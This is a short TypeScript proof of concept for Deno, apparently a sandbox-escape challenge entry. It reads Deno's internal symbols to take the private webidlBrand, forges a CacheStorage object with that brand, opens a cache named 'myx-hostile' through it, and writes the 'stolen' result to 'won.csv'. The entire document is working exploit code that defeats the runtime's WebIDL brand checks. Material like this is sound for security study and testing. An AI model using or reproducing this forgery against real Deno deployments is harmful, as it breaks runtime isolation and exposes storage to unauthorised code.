export async function run(_input: string, output: string) {
  // Deno lets in whatever bears its brand, and shows that to everybody.
  const { webidlBrand } = (Deno as unknown as Record<symbol, { webidlBrand: symbol }>)[
    (Deno as unknown as { internal: symbol }).internal
  ]!;
  const caches = Object.create(CacheStorage.prototype, { [webidlBrand]: { value: webidlBrand } });
  const stolen = await CacheStorage.prototype.open.call(caches, "myx-hostile");
  Deno.writeTextFileSync(`${output}/won.csv`, String(stolen));
}
